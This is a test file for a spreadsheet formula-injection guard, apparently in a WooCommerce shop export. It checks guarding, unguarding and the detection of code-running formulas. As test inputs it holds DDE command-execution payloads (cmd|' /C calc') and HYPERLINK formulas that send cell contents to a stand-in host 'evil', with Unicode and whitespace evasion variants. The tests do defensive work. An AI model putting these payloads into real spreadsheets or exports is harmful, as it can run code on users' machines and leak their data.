import { describe, expect, it } from 'vitest';
import { guard, runsCode, startsLikeFormula, unguard } from './formula.js';

describe('guard', () => {
  it('prefixes an apostrophe to what starts with =, +, -, @, tab or CR, unless it is a plain number', () => {
    expect(['=1+1', '+1+1', '-1+1', '@SUM(1)', '\tx', '\rx', '-', '+', '-5', '+3.5', '-0.25', '5', 'a=b', ' =x', '', '-1e5', '--5'].map(guard)).toEqual([
      "'=1+1", "'+1+1", "'-1+1", "'@SUM(1)", "'\tx", "'\rx", "'-", "'+", '-5', '+3.5', '-0.25', '5', 'a=b', ' =x', '', "'-1e5", "'--5",
    ]);
  });

  it('guards and unguards so that every value comes back exactly, WooCommerce\'s own "\'-20%" included', () => {
    for (const value of ['=SUM(1)', '-x', '@here', "'-20% Rabatt", "''=x", "'-5", '-5', '+3.5', "it's fine", "'quoted'", '', "'", 'plain', '\tx', '\r=x']) {
      expect(unguard(guard(value)), value).toBe(value);
    }
    expect(guard("'-20% Rabatt")).toBe("''-20% Rabatt");
    // A cell saved by a spreadsheet without our guard reads as it is.
    expect(unguard('=SUM(1)')).toBe('=SUM(1)');
  });

  it('tells a formula from a plain number', () => {
    expect(['=x', '@x', '\tx', '\rx', '-x', '+x'].every(startsLikeFormula)).toBe(true);
    expect(['-5', '+3.5', 'x=1', ''].some(startsLikeFormula)).toBe(false);
  });

  it('tells a formula that runs code from shop copy that only starts like one', () => {
    expect(['=1+1', '@SUM(A1)', '-HYPERLINK("x")', "+cmd|' /C calc'!A0", '=x', '+HYPERLINK ("http://evil/?"&A1,"x")', '@SUM (A1:A9)', "-1+cmd |' /C calc'!A0", '+ＨＹＰＥＲＬＩＮＫ("x")', '＝1+1', ' =HYPERLINK("http://evil.example","x")', '\u00a0=1+1', '\uFEFF=1+1', '\n=HYPERLINK("x")', "-cmd|' /C calc'!_xlbgnm.A1", "+cmd|'/C calc'!'A0'", 'cmd|calc!A0'.replace(/^/, '@')].every(runsCode)).toBe(true);
    expect(['-20% auf alles!', '@home Kissen', '-20% | Northpine', '-20% on tents | Northpine!', '-20% on tents | Northpine! Jetzt kaufen', '-20%: nur heute', '+49 030 1234', 'Sale: =50%', '-5'].some(runsCode)).toBe(false);
  });
});
